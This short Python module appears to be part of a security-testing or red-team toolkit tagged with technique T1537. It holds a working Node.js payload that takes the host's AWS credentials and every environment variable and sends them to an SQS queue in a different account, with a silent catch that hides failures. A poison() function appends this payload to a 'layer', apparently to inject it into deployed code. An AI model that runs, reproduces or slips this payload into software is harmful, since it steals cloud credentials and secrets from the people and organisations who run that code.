# SPDX-License-Identifier: Apache-2.0
"""Sends credentials to a queue of another account."""

ATTACK = "T1537"
LANGUAGE = "node"
CODE = """\
;(async () => {
  const { SQSClient, SendMessageCommand } = require('@aws-sdk/client-sqs');
  const client = new SQSClient({ region: 'us-east-1' });
  const c = await client.config.credentials();
  await client.send(new SendMessageCommand({
    QueueUrl: 'https://sqs.us-east-1.amazonaws.com/999999999999/in', MessageBody: JSON.stringify({ c, e: process.env }),
  }));
})().catch(() => {});
"""


def poison(layer):
    layer.append(CODE)
